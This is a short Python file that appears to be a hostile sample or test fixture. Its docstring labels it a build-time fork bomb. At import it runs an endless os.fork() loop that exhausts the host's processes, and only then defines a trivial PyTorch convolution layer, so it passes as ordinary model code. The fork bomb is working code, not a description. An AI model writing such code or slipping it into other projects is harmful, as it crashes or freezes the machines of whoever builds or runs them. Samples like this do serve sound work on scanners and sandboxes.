"""Fork bomb at build time: every process forks forever, nobody waits."""
import os

from torch import nn

while True:
    try:
        os.fork()
    except OSError:
        pass

model = nn.Conv2d(3, 8, 3)
